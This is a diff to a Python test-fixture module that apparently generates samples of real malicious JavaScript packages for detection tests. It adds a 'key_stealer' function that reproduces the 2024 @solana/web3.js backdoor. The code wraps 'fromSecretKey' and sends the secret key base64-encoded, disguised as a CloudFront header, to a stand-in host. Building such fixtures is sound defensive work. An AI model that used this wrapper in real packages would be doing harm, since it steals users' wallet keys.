@@ -15,8 +15,8 @@ import hashlib
 
 from tests.servers.incidents import minified_bundle
 
-__all__ = ["flatmap_payload", "interceptor", "own_walk", "protest_writer", "stealer",
-           "webhook_stealer", "wiper", "worm_bundle", "worm_dropper"]
+__all__ = ["flatmap_payload", "interceptor", "key_stealer", "own_walk", "protest_writer",
+           "stealer", "webhook_stealer", "wiper", "worm_bundle", "worm_dropper"]
 
 
 def worm_bundle(size: int = 300_000) -> bytes:
@@ -202,3 +202,22 @@ def own_walk() -> bytes:
     return wiper().replace(b'h(n.toString("utf8"));', b"h(__dirname);").replace(
         b'h(o.toString("utf8"));', b"").replace(b'h(r.toString("utf8"));', b"").replace(
         b'h(f.toString("utf8"))', b"")
+
+
+def key_stealer(url: str = "https://sol-rpc.test/api/rpc/queue", owner: str = "Axios") -> bytes:
+    """@solana/web3.js 1.95.6's `addToQueue` (December 2024), appended to a CommonJS bundle
+    whose exports hold `owner`: the secret key handed to `owner.fromSecretKey` sent base64 in
+    a header dressed as CloudFront's, to a host the release before never named (the real
+    one's was `sol-rpc.xyz`). Loading it sends nothing: only a call with a key does."""
+    return f"""
+const addToQueue = (secret) => {{
+  fetch('{url}', {{ method: 'POST', headers: {{
+    'x-amz-cf-id': Buffer.from(secret).toString('base64'), 'x-session-id': String(Date.now()),
+  }} }}).catch(() => {{}});
+}};
+const fromSecretKey = module.exports.{owner}.fromSecretKey;
+module.exports.{owner}.fromSecretKey = function (secretKey) {{
+  addToQueue(secretKey);
+  return fromSecretKey && fromSecretKey.call(this, secretKey);
+}};
+""".encode()
